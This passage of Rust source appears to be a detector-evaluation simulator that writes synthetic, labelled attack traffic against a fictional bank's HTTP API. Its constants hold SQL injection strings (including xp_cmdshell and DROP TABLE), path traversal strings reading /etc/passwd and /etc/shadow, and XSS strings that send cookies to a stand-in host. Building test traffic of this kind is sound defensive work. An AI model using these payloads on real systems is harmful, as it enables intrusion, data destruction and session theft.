//! The evaluation simulator, part two: attack scenarios of every alert kind a detector should
//! raise from HTTP (all of DESIGN.md's kinds except `spoofed_flood`, reserved: nothing raises it yet),
//! each varied by the seed (rates, sizes, places, payloads, variants) and labelled with the
//! addresses and principals it involves. The reference case is the first brute force: 500 login
//! attempts on `layla` in 3 minutes from a Hanoi address.
//!
//! Scenarios happen at random times during the last days of the simulated history, interleaved
//! with benign traffic and with each other; attackers get addresses of their own, and attacks on
//! accounts pick victims with enough history to be established at that time.

use std::net::IpAddr;

use super::sim::{
    APP_UAS, ATTACKER_CITIES, Builder, CITIES, City, DAY, HOUR, NS, Rng, Scenario, Session, User,
    WEB_UAS, Whereabouts, attacker_addr, attacker_addr6, bearer, card_number, city_addr,
    distance_km, first_in_separate_nets, iban, jwt, luhn_number, post_json, req, resp, slots,
};
use crate::models::AlertKind;

/// The kinds the simulator writes scenarios for: every kind but `spoofed_flood` (reserved).
pub fn kinds() -> impl Iterator<Item = AlertKind> {
    AlertKind::ALL
        .into_iter()
        .filter(|k| *k != AlertKind::SpoofedFlood)
}

/// Volumetric kinds: their first alert is due within a second of the attack's start.
pub const VOLUMETRIC: [AlertKind; 5] = [
    AlertKind::BruteForce,
    AlertKind::CredentialStuffing,
    AlertKind::RateAnomaly,
    AlertKind::Enumeration,
    AlertKind::Scraping,
];

/// Injection kinds: their first alert is due within five attempts.
pub const INJECTION: [AlertKind; 3] = [
    AlertKind::SqlInjection,
    AlertKind::Xss,
    AlertKind::PathTraversal,
];

/// Draws before a scenario gives up looking for a victim, a time or a place that fits.
const MAX_TRIES: usize = 10_000;

/// Victims drawn for one attack time before another time is drawn (`time_and_victim`): a
/// time at which few users are established or fit gives way to another soon.
const VICTIM_DRAWS: usize = 200;

/// Every scenario on an account needs a victim of its own with enough history: a population too
/// small for `per_kind` runs out of them.
fn exhausted(users: usize) -> ! {
    panic!(
        "the simulator found no unused, established victim that fits its scenario in \
         {MAX_TRIES} draws among {users} users: give more users or fewer scenarios per kind \
         (each account attack takes a victim of its own)"
    )
}

/// Automated clients' user agents.
const TOOL_UAS: &[&str] = &[PYTHON_REQUESTS, CURL, GO_HTTP, "hydra", OKHTTP];
const PYTHON_REQUESTS: &str = "python-requests/2.31.0";
const CURL: &str = "curl/8.4.0";
const GO_HTTP: &str = "Go-http-client/1.1";
/// The Android HTTP library: an app's as often as a script's (not an automation agent).
const OKHTTP: &str = "okhttp/4.9.2";

/// What makes a victim established at a time: the history it has by then.
#[derive(Clone, Copy)]
struct Established {
    /// Trusted requests in sessions that ended before the time, at least.
    requests: u64,
    /// How long before the time its first session started, at least (ns).
    age_ns: u64,
    /// Sessions that ended before the time, at least.
    sessions: usize,
}

/// A user with some history: a day old, five requests, one session.
const KNOWN: Established = Established {
    requests: 5,
    age_ns: DAY,
    sessions: 1,
};

impl Established {
    /// Whether `u` has this much history at `t`.
    fn holds(self, u: &User, t: u64) -> bool {
        let h = u.history_before(t);
        h.requests >= self.requests
            && h.sessions >= self.sessions
            && h.first_ns.is_some_and(|f| f + self.age_ns < t)
    }
}

/// An attack time and a victim drawn for it ([`Stage::time_and_victim`]).
struct Drawn<T> {
    /// The time drawn.
    t: u64,
    /// The victim (index into the users).
    victim: usize,
    /// What the victim's fit gave for that time.
    plan: T,
}

/// Where attacks are written.
pub struct Stage<'a> {
    /// Exchanges.
    pub b: &'a mut Builder,
    /// Randomness.
    pub rng: &'a mut Rng,
    /// The benign users (victims are chosen among them).
    pub users: &'a [User],
    /// Attacks start at or after this.
    pub from_ns: u64,
    /// And end before this.
    pub to_ns: u64,
    /// Next unused address per attacker city.
    pub next_addr: Vec<u64>,
    /// Next unused attacker slot ([`slots::ATTACK`]) per benign city.
    pub next_local: Vec<u64>,
    /// Users already chosen as victims of an account attack (each scenario gets its own, so
    /// that one attack does not teach a profile what the next one should stand out from).
    pub victims: Vec<bool>,
}

/// Who sends a scenario's authenticated requests: an address, a user agent and the
/// `Authorization` value of a bearer token.
#[derive(Clone, Copy)]
struct TokenHolder<'a> {
    ip: IpAddr,
    ua: &'a str,
    auth: &'a str,
}

/// How a request counts in its scenario.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Part {
    /// An attack attempt: its address is one of the sources, its time one of the attempts.
    Attempt,
    /// The attacker's, beside the attempts (a look around, a login before a flood): its
    /// address is one of the sources.
    Aside,
    /// The victim's own, that the attack starts from (the login whose token leaks): on the
    /// scenario's time line, neither a source nor an attempt.
    Owner,
}

/// A scenario being written: its exchanges go out as they are made.
struct Attack {
    kind: AlertKind,
    variant: String,
    sources: Vec<IpAddr>,
    principals: Vec<String>,
    tried: Vec<String>,
    first_ns: u64,
    attempts_ns: Vec<u64>,
}

impl Attack {
    fn new(kind: AlertKind, variant: &str) -> Self {
        Self {
            kind,
            variant: variant.to_owned(),
            sources: Vec::new(),
            principals: Vec::new(),
            tried: Vec::new(),
            first_ns: u64::MAX,
            attempts_ns: Vec::new(),
        }
    }

    /// Sends one request of the scenario, counted as `part` says.
    fn send(
        &mut self,
        b: &mut Builder,
        t: u64,
        ip: IpAddr,
        request: Vec<u8>,
        response: Vec<u8>,
        part: Part,
    ) {
        if part != Part::Owner && !self.sources.contains(&ip) {
            self.sources.push(ip);
        }
        self.first_ns = self.first_ns.min(t);
        if part == Part::Attempt {
            self.attempts_ns.push(t);
        }
        b.push(t, ip, request, response);
    }

    /// Sends one attack request counted as an attempt: a GET of `path` by `who`, with its
    /// token.
    fn get(
        &mut self,
        b: &mut Builder,
        t: u64,
        who: TokenHolder<'_>,
        path: &str,
        response: Vec<u8>,
    ) {
        let r = req("GET", path, who.ua, &[("Authorization", who.auth)], None);
        self.send(b, t, who.ip, r, response, Part::Attempt);
    }

    fn done(self) -> Scenario {
        let start = self.attempts_ns.iter().copied().min().unwrap_or(0);
        let end = self.attempts_ns.iter().copied().max().unwrap_or(start);
        Scenario {
            id: 0,
            kind: self.kind,
            variant: self.variant,
            sources: self.sources.iter().map(ToString::to_string).collect(),
            principals: self.principals,
            tried: self.tried,
            first_ns: self.first_ns.min(start),
            start_ns: start,
            end_ns: end,
            attempts_ns: self.attempts_ns,
        }
    }
}

impl Stage<'_> {
    /// A fresh address of attacker city `a` (IPv6 one time in ten).
    fn attacker(&mut self, a: usize) -> IpAddr {
        let k = self.next_addr[a];
        self.next_addr[a] += 1;
        if self.rng.chance(0.1) {
            attacker_addr6(a, k)
        } else {
            attacker_addr(a, k)
        }
    }

    /// A fresh attacker address inside benign city `c`.
    fn local_attacker(&mut self, c: usize) -> IpAddr {
        let k = self.next_local[c];
        self.next_local[c] += 1;
        city_addr(c, slots::ATTACK, k)
    }

    /// A fresh address of a random attacker city.
    fn any_attacker(&mut self) -> IpAddr {
        let a = self.rng.below(ATTACKER_CITIES.len() as u64) as usize;
        self.attacker(a)
    }

    /// A random start time in the attack period (an hour from its end at the latest).
    fn when(&mut self) -> u64 {
        self.from_ns
            + self
                .rng
                .below((self.to_ns - self.from_ns).saturating_sub(HOUR))
    }

    /// An unused victim established at `t` (`min` holds) that `fits` gives a plan for, with
    /// the plan; only that victim is marked as used.
    fn victim<T>(
        &mut self,
        t: u64,
        min: Established,
        fits: &mut impl FnMut(&mut Self, u64, usize) -> Option<T>,
    ) -> Option<(usize, T)> {
        for _ in 0..VICTIM_DRAWS {
            let i = self.rng.below(self.users.len() as u64 - 1) as usize;
            if self.victims[i] || !min.holds(&self.users[i], t) {
                continue;
            }
            if let Some(plan) = fits(self, t, i) {
                self.victims[i] = true;
                return Some((i, plan));
            }
        }
        None
    }

    /// A user no other scenario has as a victim (marked as one now).
    fn fresh_user(&mut self) -> usize {
        for _ in 0..MAX_TRIES {
            let i = self.rng.below(self.users.len() as u64 - 1) as usize;
            if !self.victims[i] {
                self.victims[i] = true;
                return i;
            }
        }
        exhausted(self.users.len())
    }

    /// A time, and an established victim at that time that `fits(stage, time, victim)` gives
    /// a plan for (`None`: the victim does not fit, and stays unused), with the plan; times
    /// are drawn again until one is found.
    fn time_and_victim<T>(
        &mut self,
        min: Established,
        mut fits: impl FnMut(&mut Self, u64, usize) -> Option<T>,
    ) -> Drawn<T> {
        for _ in 0..MAX_TRIES {
            let t = self.when();
            if let Some((victim, plan)) = self.victim(t, min, &mut fits) {
                return Drawn { t, victim, plan };
            }
        }
        exhausted(self.users.len())
    }

    /// A time and an established victim at that time.
    fn established(&mut self, min: Established) -> (u64, usize) {
        let d = self.time_and_victim(min, |_, _, _| Some(()));
        (d.t, d.victim)
    }

    /// `1/rate` seconds with ±30% jitter, in ns.
    fn interval(&mut self, per_s: f64) -> u64 {
        let base = NS as f64 / per_s;
        (base * (0.7 + 0.6 * self.rng.unit())) as u64
    }
}

fn login_body(form: bool, user: &str, password: &str) -> (&'static str, String) {
    if form {
        (
            "application/x-www-form-urlencoded",
            format!("username={user}&password={password}"),
        )
    } else {
        (
            "application/json",
            format!("{{\"username\":\"{user}\",\"password\":\"{password}\"}}"),
        )
    }
}

fn failed() -> Vec<u8> {
    resp(401, "{\"error\":\"invalid credentials\"}")
}

fn brute_force(st: &mut Stage<'_>, k: usize) -> Scenario {
    let mut a = Attack::new(AlertKind::BruteForce, "one account");
    // `rate`: attempts per second, with jitter; `None` for the reference case's even pace.
    let (victim, ip, n, rate, ua, form) = if k == 0 {
        // The reference case: 500 attempts in 3 minutes from Hanoi (its own /24, IPv4: not
        // `attacker`, which may pick IPv6) on layla, the population's last user.
        let ip = attacker_addr(0, st.next_addr[0]);
        st.next_addr[0] += 1;
        a.variant = "reference case".into();
        (st.users.len() - 1, ip, 500, None, PYTHON_REQUESTS, false)
    } else {
        let v = st.fresh_user();
        let ip = st.any_attacker();
        let rate = 2.8 + st.rng.unit() * 7.2;
        let ua = if st.rng.chance(0.5) {
            *st.rng.pick(TOOL_UAS)
        } else {
            *st.rng.pick(WEB_UAS)
        };
        let form = st.rng.chance(0.3);
        (v, ip, st.rng.range(50, 400), Some(rate), ua, form)
    };
    let name = st.users[victim].name.clone();
    a.principals.push(format!("user:{name}"));
    let mut t = st.when();
    for i in 0..n {
        let (ct, body) = login_body(form, &name, &format!("guess{i}"));
        let r = req("POST", "/login", ua, &[], Some((ct, &body)));
        a.send(st.b, t, ip, r, failed(), Part::Attempt);
        t += match rate {
            None => 180 * NS / 500,
            Some(rate) => st.interval(rate),
        };
    }
    a.done()
}

fn credential_stuffing(st: &mut Stage<'_>, k: usize) -> Scenario {
    let distributed = st.rng.chance(0.3);
    let mut a = Attack::new(
        AlertKind::CredentialStuffing,
        if distributed {
            "distributed, one fingerprint"
        } else {
            "one source"
        },
    );
    let sources: Vec<IpAddr> = if distributed {
        (0..st.rng.range(6, 20))
            .map(|_| st.any_attacker())
            .collect()
    } else {
        vec![st.any_attacker()]
    };
    let ua = if distributed {
        OKHTTP
    } else {
        *st.rng.pick(&[PYTHON_REQUESTS, GO_HTTP, WEB_UAS[0]])
    };
    let rate = if distributed {
        20.0 + st.rng.unit() * 30.0
    } else {
        8.0 + st.rng.unit() * 22.0
    };
    let n = st.rng.range(100, 400);
    let form = st.rng.chance(0.3);
    let mut t = st.when();
    for i in 0..n {
        let real = st.rng.chance(0.3);
        let ok = st.rng.chance(0.02);
        let user = if real && ok {
            // A reused password that works: the account is taken over (and no other scenario
            // gets it as a victim).
            let v = st.fresh_user();
            a.principals.push(format!("user:{}", st.users[v].name));
            st.users[v].name.clone()
        } else if real {
            let name = st.users[st.rng.below(st.users.len() as u64) as usize]
                .name
                .clone();
            let p = format!("user:{name}");
            if !a.tried.contains(&p) {
                a.tried.push(p);
            }
            name
        } else {
            format!("leak{k}-{i}@mail.test")
        };
        let (ct, body) = login_body(form, &user, "Summer2024!");
        let ip = *st.rng.pick(&sources);
        let r = req(
            "POST",
            "/login",
            ua,
            &[("Accept-Language", "en-US")],
            Some((ct, &body)),
        );
        let ok = ok && real;
        let response = if ok {
            resp(200, "{\"token\":\"opaque-session-token\"}")
        } else {
            failed()
        };
        a.send(st.b, t, ip, r, response, Part::Attempt);
        t += st.interval(rate);
    }
    a.done()
}

fn rate_anomaly(st: &mut Stage<'_>, _k: usize) -> Scenario {
    let (t0, v) = st.established(Established {
        requests: 10,
        age_ns: DAY,
        sessions: 1,
    });
    let u = &st.users[v];
    let same_host = st.rng.chance(0.5);
    let mut a = Attack::new(
        AlertKind::RateAnomaly,
        if same_host {
            "owner's address"
        } else {
            "owner's city"
        },
    );
    let Whereabouts { city, addr: here } = u.whereabouts(t0, v);
    let ip = if same_host {
        here
    } else {
        st.local_attacker(city)
    };
    let path = if st.rng.chance(0.5) {
        "/balance".to_owned()
    } else {
        format!("/accounts/{}/transactions?page=1", u.account)
    };
    let ua = if st.rng.chance(0.5) {
        u.ua
    } else {
        *st.rng.pick(TOOL_UAS)
    };
    let tok = login_as(st, &mut a, v, ip, ua, t0, Part::Aside);
    let auth = bearer(&tok);
    let who = TokenHolder {
        ip,
        ua,
        auth: &auth,
    };
    let rate = 30.0 + st.rng.unit() * 120.0;
    let secs = st.rng.range(10, 40) as f64;
    let n = (rate * secs) as u64;
    let mut t = t0 + st.rng.range(1, 5) * NS;
    for _ in 0..n {
        let ok = resp(200, "{\"balance\":1200.00,\"currency\":\"SAR\"}");
        a.get(st.b, t, who, &path, ok);
        t += st.interval(rate);
    }
    a.done()
}

/// A successful login as user `v` from `ip` at `t`, counted as `by` says; returns the token the
/// server issued, which the engine links to the account (whose principals the scenario
/// involves).
fn login_as(
    st: &mut Stage<'_>,
    a: &mut Attack,
    v: usize,
    ip: IpAddr,
    ua: &str,
    t: u64,
    part: Part,
) -> String {
    let u = &st.users[v];
    let (name, password) = (u.name.clone(), u.password.clone());
    for p in [format!("user:{name}"), format!("jwt:{name}")] {
        if !a.principals.contains(&p) {
            a.principals.push(p);
        }
    }
    let tok = jwt("RS256", &name, t / NS, t / NS + 3600, st.rng);
    let (ct, body) = login_body(false, &name, &password);
    let request = req("POST", "/login", ua, &[], Some((ct, &body)));
    let response = resp(200, &format!("{{\"token\":\"{tok}\"}}"));
    a.send(st.b, t, ip, request, response, part);
    tok
}

/// A stolen-credential session: login with the victim's password, then their pages.
fn takeover(
    st: &mut Stage<'_>,
    a: &mut Attack,
    v: usize,
    ip: IpAddr,
    ua: &str,
    t0: u64,
    extra: usize,
) {
    let account = st.users[v].account;
    let tok = login_as(st, a, v, ip, ua, t0, Part::Attempt);
    let auth = bearer(&tok);
    let who = TokenHolder {
        ip,
        ua,
        auth: &auth,
    };
    let mut t = t0;
    let pages = [
        "/balance".to_owned(),
        format!("/accounts/{account}"),
        format!("/accounts/{account}/transactions?page=1"),
    ];
    for i in 0..2 + extra {
        t += st.rng.range(2, 20) * NS;
        let p = &pages[i % pages.len()];
        a.get(st.b, t, who, p, resp(200, "{\"balance\":1200.00}"));
    }
}

/// Where a takeover comes from: an attacker city or a benign one.
#[derive(Clone, Copy)]
struct Origin {
    /// The city's index, in [`ATTACKER_CITIES`] if `attacker_city`, else in [`CITIES`].
    city: usize,
    /// Whether `city` is one of [`ATTACKER_CITIES`].
    attacker_city: bool,
}

impl Origin {
    /// Attacker city `city`.
    fn attacker(city: usize) -> Self {
        Self {
            city,
            attacker_city: true,
        }
    }

    /// Benign city `city`.
    fn benign(city: usize) -> Self {
        Self {
            city,
            attacker_city: false,
        }
    }

    /// The city itself.
    fn place(self) -> &'static City {
        if self.attacker_city {
            &ATTACKER_CITIES[self.city]
        } else {
            &CITIES[self.city]
        }
    }
}

/// A stolen-password session ([`takeover`]) on an established victim, at a time and from a
/// place that `plan(stage, victim, last)` gives after the owner's last session before a drawn
/// time (`None`: the victim does not fit), with a user agent that `ua(stage, owner's)` picks.
fn remote_takeover(
    st: &mut Stage<'_>,
    mut a: Attack,
    mut plan: impl FnMut(&mut Stage<'_>, usize, Session) -> Option<(u64, Origin)>,
    ua: impl FnOnce(&mut Stage<'_>, &'static str) -> &'static str,
) -> Scenario {
    let Drawn {
        victim: v,
        plan: (t0, from),
        ..
    } = st.time_and_victim(
        Established {
            requests: 12,
            age_ns: DAY + DAY / 2,
            sessions: 1,
        },
        |st, t, v| {
            let last = st.users[v].last_session_before(t)?;
            plan(st, v, last)
        },
    );
    let ip = if from.attacker_city {
        st.attacker(from.city)
    } else {
        st.local_attacker(from.city)
    };
    let ua = ua(st, st.users[v].ua);
    let extra = st.rng.below(3) as usize;
    takeover(st, &mut a, v, ip, ua, t0, extra);
    a.done()
}

fn impossible_travel(st: &mut Stage<'_>, _k: usize) -> Scenario {
    let a = Attack::new(AlertKind::ImpossibleTravel, "stolen password");
    remote_takeover(
        st,
        a,
        |st, _, last| {
            let t0 = last.end_ns + st.rng.range(5, 90) * 60 * NS;
            let hours = (t0 - last.end_ns) as f64 / HOUR as f64;
            let here = &CITIES[last.city];
            // Somewhere far enough that getting there is impossible: at least 2x the speed
            // limit.
            let far: Vec<Origin> = (0..CITIES.len())
                .map(Origin::benign)
                .chain((0..ATTACKER_CITIES.len()).map(Origin::attacker))
                .filter(|o| {
                    let d = distance_km(here, o.place());
                    d >= 1500.0 && d / hours >= 2000.0
                })
                .collect();
            if far.is_empty() {
                return None;
            }
            Some((t0, *st.rng.pick(&far)))
        },
        |st, own| {
            if st.rng.chance(0.5) {
                own
            } else {
                *st.rng.pick(WEB_UAS)
            }
        },
    )
}

fn new_country(st: &mut Stage<'_>, _k: usize) -> Scenario {
    let a = Attack::new(AlertKind::NewCountry, "new device");
    remote_takeover(
        st,
        a,
        |st, v, last| {
            // Long enough after the owner's last request that the trip is possible, and
            // before their next session.
            let t0 = last.end_ns + st.rng.range(8, 20) * HOUR;
            if t0 + HOUR > st.to_ns
                || st.users[v]
                    .sessions
                    .iter()
                    .any(|s| s.start_ns > last.end_ns && s.start_ns <= t0 + HOUR)
            {
                return None;
            }
            let a_city = st.rng.below(ATTACKER_CITIES.len() as u64) as usize;
            let hours = (t0 - last.end_ns) as f64 / HOUR as f64;
            if distance_km(&CITIES[last.city], &ATTACKER_CITIES[a_city]) / hours > 900.0 {
                return None;
            }
            Some((t0, Origin::attacker(a_city)))
        },
        |st, own| loop {
            let u = if st.rng.chance(0.5) {
                *st.rng.pick(WEB_UAS)
            } else {
                *st.rng.pick(TOOL_UAS)
            };
            if u != own && !(u.starts_with("Mozilla") && own.starts_with("Mozilla")) {
                break u;
            }
        },
    )
}

fn behavior_anomaly(st: &mut Stage<'_>, _k: usize) -> Scenario {
    let mut a = Attack::new(
        AlertKind::BehaviorAnomaly,
        "session hijack on the owner's network",
    );
    // The behaviour model judges a principal once it has a baseline (`warmup_windows` activity
    // windows, 4 by default): a hijack of an account with fewer sessions is not this kind's to
    // find, so the victim has at least that many sessions behind it.
    // That history is counted at the hijack, in the night of the drawn day (before the day's
    // sessions that the drawn time may follow).
    let warmup = crate::models::behavior::Config::default().warmup_windows as usize;
    let min = Established {
        requests: 30,
        age_ns: 2 * DAY,
        sessions: warmup,
    };
    let Drawn {
        victim: v,
        plan: t0,
        ..
    } = st.time_and_victim(min, |st, t, v| {
        // At night, from the owner's own network (no geography to give it away).
        let t0 = t - t % DAY + st.rng.range(1, 3) * HOUR + st.rng.below(HOUR);
        let t0 = if t0 < st.from_ns { t0 + DAY } else { t0 };
        min.holds(&st.users[v], t0).then_some(t0)
    });
    let u = &st.users[v];
    let (account, ip) = (u.account, u.whereabouts(t0, v).addr);
    let ua = if u.ua.starts_with("BankApp") {
        *st.rng.pick(&[WEB_UAS[1], CURL, PYTHON_REQUESTS])
    } else {
        *st.rng.pick(&[APP_UAS[2], CURL, PYTHON_REQUESTS])
    };
    let tok = login_as(st, &mut a, v, ip, ua, t0, Part::Attempt);
    let auth = bearer(&tok);
    let h = [("Authorization", auth.as_str())];
    let mut t = t0;
    let n = st.rng.range(20, 30);
    for i in 0..n {
        t += st.rng.range(3, 15) * NS;
        let (r, p) = match i % 5 {
            0 => (
                req("GET", "/beneficiaries", ua, &h, None),
                resp(200, "{\"items\":[]}"),
            ),
            1 => {
                let body = format!(
                    "{{\"name\":\"Mule {i}\",\"iban\":\"{}\",\"note\":\"{}\"}}",
                    iban(900_000 + st.rng.below(99_999)),
                    "x".repeat(200)
                );
                (
                    post_json("/beneficiaries", ua, &h, &body),
                    resp(201, "{\"status\":\"created\"}"),
                )
            }
            2 => {
                let body = format!(
                    "{{\"to_iban\":\"{}\",\"amount\":{},\"reference\":\"{}\"}}",
                    iban(900_000 + st.rng.below(99_999)),
                    st.rng.range(5000, 20000),
                    "y".repeat(300)
                );
                (
                    post_json("/transfer", ua, &h, &body),
                    resp(200, "{\"status\":\"ok\"}"),
                )
            }
            3 => (
                req(
                    "PUT",
                    "/profile/contact",
                    ua,
                    &h,
                    Some(("application/json", "{\"email\":\"new@mail.test\"}")),
                ),
                resp(200, "{\"status\":\"ok\"}"),
            ),
            _ => (
                req("GET", &format!("/accounts/{account}/limits"), ua, &h, None),
                resp(403, "{\"error\":\"forbidden\"}"),
            ),
        };
        a.send(st.b, t, ip, r, p, Part::Attempt);
    }
    a.done()
}

const SQLI: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "'; DROP TABLE accounts;--",
    "1) AND SLEEP(5)--",
    "admin'--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "' OR 1=1 LIMIT 1 --",
    "1; EXEC xp_cmdshell('dir')--",
];
const XSS: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//x.test/'+document.cookie)>",
    "\"><script>new Image().src='//x.test/?c='+document.cookie</script>",
    "<body onload=alert('xss')>",
    "<iframe src=javascript:alert(1)>",
];
const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc/self/environ",
    "/var/www/../../etc/hosts",
];

fn pct(s: &str) -> String {
    let mut o = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            o.push(char::from(b));
        } else {
            o.push_str(&format!("%{b:02X}"));
        }
    }
    o
}

fn injection(st: &mut Stage<'_>, kind: AlertKind) -> Scenario {
    let payloads = match kind {
        AlertKind::SqlInjection => SQLI,
        AlertKind::Xss => XSS,
        AlertKind::PathTraversal => TRAVERSAL,
        other => unreachable!("{other:?} is not an injection kind"),
    };
    let places: &[&str] = match kind {
        AlertKind::PathTraversal => &["query", "path", "json"],
        _ => &["query", "json", "form", "header"],
    };
    let place = *st.rng.pick(places);
    let mut a = Attack::new(kind, &format!("payload in {place}"));
    let ip = st.any_attacker();
    let ua = *st.rng.pick(&[WEB_UAS[0], CURL, "sqlmap/1.8.4#stable"]);
    let mut t = st.when();
    // A look around first.
    for p in ["/rates", "/news/3"].iter().take(st.rng.below(3) as usize) {
        a.send(
            st.b,
            t,
            ip,
            req("GET", p, ua, &[], None),
            resp(200, "{}"),
            Part::Aside,
        );
        t += st.rng.range(1, 5) * NS;
    }
    for _ in 0..st.rng.range(3, 8) {
        let p = *st.rng.pick(payloads);
        let r = match place {
            "query" => {
                let target = match kind {
                    AlertKind::PathTraversal => format!("/files?name={}", pct(p)),
                    _ => format!("/search?q={}", pct(p)),
                };
                req("GET", &target, ua, &[], None)
            }
            "path" => req("GET", &format!("/static/{p}"), ua, &[], None),
            "json" => {
                let body = serde_json::json!({ "q": p, "page": 1 }).to_string();
                let target = if kind == AlertKind::PathTraversal {
                    "/documents/open"
                } else {
                    "/search"
                };
                post_json(target, ua, &[], &body)
            }
            "form" => {
                let body = format!("name={}&message=hello", pct(p));
                req(
                    "POST",
                    "/contact",
                    ua,
                    &[],
                    Some(("application/x-www-form-urlencoded", &body)),
                )
            }
            _ => req(
                "GET",
                "/news/4",
                ua,
                &[("Referer", &format!("https://bank.test/search?q={}", pct(p)))],
                None,
            ),
        };
        a.send(st.b, t, ip, r, resp(404, "{}"), Part::Attempt);
        t += st.rng.range(200, 3000) * NS / 1000;
    }
    a.done()
}

fn data_exposure(st: &mut Stage<'_>, _k: usize) -> Scenario {
    let variants = [
        "cards",
        "ibans",
        "emails",
        "private key",
        "secret field",
        "national ids",
        "oversized",
        "pages",
    ];
    let variant = *st.rng.pick(&variants);
    let mut a = Attack::new(AlertKind::DataExposure, variant);
    let (t0, v) = st.established(KNOWN);
    let u = &st.users[v];
    let (name, account) = (u.name.clone(), u.account);
    let ip = st.any_attacker();
    let tok = jwt("RS256", &name, t0 / NS, t0 / NS + 3600, st.rng);
    a.principals.push(format!("jwt:{name}"));
    let auth = bearer(&tok);
    if variant == "pages" {
        let ua = *st.rng.pick(&[CURL, PYTHON_REQUESTS, WEB_UAS[0]]);
        let who = TokenHolder {
            ip,
            ua,
            auth: &auth,
        };
        read_page_by_page(st, &mut a, who, t0);
        return a.done();
    }
    let many = st.rng.range(20, 100) as usize;
    let (path, body) = match variant {
        "cards" => {
            let items: Vec<String> = (0..many)
                .map(|_| {
                    format!(
                        "{{\"number\":\"{}\",\"cvv\":\"{:03}\"}}",
                        card_number(*st.rng.pick(&[4, 51, 37]), st.rng),
                        st.rng.below(1000)
                    )
                })
                .collect();
            (
                "/admin/export?table=cards".to_owned(),
                format!("[{}]", items.join(",")),
            )
        }
        "ibans" => {
            let items: Vec<String> = (0..many)
                .map(|_| format!("{{\"iban\":\"{}\"}}", iban(100_000 + st.rng.below(900_000))))
                .collect();
            (
                "/accounts?all=true".to_owned(),
                format!("[{}]", items.join(",")),
            )
        }
        "emails" => {
            let items: Vec<String> = (0..many * 3)
                .map(|i| format!("\"customer{i}.{}@mail.test\"", st.rng.below(1000)))
                .collect();
            (
                "/users?limit=500".to_owned(),
                format!("{{\"emails\":[{}]}}", items.join(",")),
            )
        }
        "private key" => (
            "/debug/config".to_owned(),
            format!(
                "{{\"tls_key\":\"-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEA{}\\n-----END RSA PRIVATE KEY-----\"}}",
                super::sim::b64(&(0..48).map(|_| st.rng.below(256) as u8).collect::<Vec<_>>())
            ),
        ),
        "secret field" => (
            "/api/integrations".to_owned(),
            format!(
                "{{\"provider\":\"payments\",\"client_id\":\"bank-web\",\"client_secret\":\"{}\"}}",
                super::sim::b64(&(0..24).map(|_| st.rng.below(256) as u8).collect::<Vec<_>>())
            ),
        ),
        "national ids" => {
            let items: Vec<String> = (0..many)
                .map(|_| {
                    let id = luhn_number(1 + st.rng.below(2), 10, st.rng);
                    format!("{{\"national_id\":\"{id}\"}}")
                })
                .collect();
            (
                "/customers/search?q=a".to_owned(),
                format!("[{}]", items.join(",")),
            )
        }
        _ => {
            let size = st.rng.range(2_000_000, 6_000_000) as usize;
            (
                format!("/accounts/{account}/transactions?page=1&size=100000"),
                format!("{{\"items\":\"{}\"}}", "t".repeat(size)),
            )
        }
    };
    let who = TokenHolder {
        ip,
        ua: CURL,
        auth: &auth,
    };
    a.get(st.b, t0, who, &path, resp(200, &body));
    a.done()
}

/// A customer table read page by page (`?page=N` or `?limit=K&offset=M`), one page every 10
/// to 30 s, each page under the per-response thresholds of its kind (cards, IBANs, national ids
/// or e-mail addresses), until the reader holds half again the window's threshold of them.
fn read_page_by_page(st: &mut Stage<'_>, a: &mut Attack, who: TokenHolder<'_>, t0: u64) {
    let limits = crate::models::exposure::Config::default();
    let (kind, per, total) = match st.rng.below(4) {
        0 => ("cards", st.rng.range(1, 2), limits.window_cards),
        1 => ("ibans", st.rng.range(2, 4), limits.window_ibans),
        2 => (
            "national ids",
            st.rng.range(1, 2),
            limits.window_national_ids,
        ),
        _ => ("emails", st.rng.range(5, 19), limits.window_emails),
    };
    a.variant = format!("{kind}, page by page");
    let pages = (u64::from(total) * 3 / 2).div_ceil(per) + st.rng.below(5);
    let path = *st
        .rng
        .pick(&["/customers", "/api/v2/customers", "/admin/users"]);
    let by_offset = st.rng.chance(0.5);
    let first = st.rng.range(1, 5_000);
    let mut t = t0;
    for p in 0..pages {
        let rows: Vec<String> = (0..per)
            .map(|j| {
                let id = first + p * per + j;
                let item = match kind {
                    "cards" => format!(
                        "\"card\":\"{}\"",
                        card_number(*st.rng.pick(&[4, 51, 37]), st.rng)
                    ),
                    "ibans" => format!("\"iban\":\"{}\"", iban(100_000 + id)),
                    "national ids" => format!(
                        "\"national_id\":\"{}\"",
                        luhn_number(1 + st.rng.below(2), 10, st.rng)
                    ),
                    _ => format!("\"email\":\"customer{id}@mail.test\""),
                };
                format!("{{\"id\":{id},\"name\":\"Customer {id}\",{item}}}")
            })
            .collect();
        let target = if by_offset {
            format!("{path}?limit={per}&offset={}", p * per)
        } else {
            format!("{path}?page={}", p + 1)
        };
        let body = format!("{{\"items\":[{}],\"next\":true}}", rows.join(","));
        a.get(st.b, t, who, &target, resp(200, &body));
        t += st.rng.range(10, 30) * NS;
    }
}

fn token_reuse(st: &mut Stage<'_>, _k: usize) -> Scenario {
    let countries = st.rng.chance(0.5);
    let mut a = Attack::new(
        AlertKind::TokenReuse,
        if countries {
            "several countries"
        } else {
            "many networks"
        },
    );
    let (t0, v) = st.established(KNOWN);
    let u = &st.users[v];
    let account = u.account;
    // The owner logs in as usual; the token it gets leaks.
    let (home, ua) = (u.whereabouts(t0, v).addr, u.ua);
    let issued = t0 - st.rng.range(60, 600) * NS;
    let tok = login_as(st, &mut a, v, home, ua, issued, Part::Owner);
    let auth = bearer(&tok);
    let n_sources = st.rng.range(6, 12);
    let one_city = st.rng.below(ATTACKER_CITIES.len() as u64) as usize;
    let sources: Vec<IpAddr> = (0..n_sources)
        .map(|i| {
            let c = if countries {
                i as usize % ATTACKER_CITIES.len()
            } else {
                one_city
            };
            // A /24 each: consecutive attacker addresses are in different networks, past
